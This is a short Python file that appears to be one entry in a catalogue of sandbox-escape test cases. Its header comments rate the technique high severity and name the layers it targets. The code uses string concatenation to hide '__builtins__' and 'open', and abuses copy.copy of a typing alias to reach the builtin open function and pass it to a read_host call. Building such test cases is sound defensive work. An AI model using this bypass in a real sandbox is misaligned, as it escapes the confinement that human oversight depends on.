# technique: copying a generic alias looks a name of the alias up in the library's globals
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import typing

def trick():
    alias = typing.List[int]
    alias._name = "__built" + "ins__"
    alias.__args__ = ("op" + "en",)
    return copy.copy(alias)

read_host(trick)
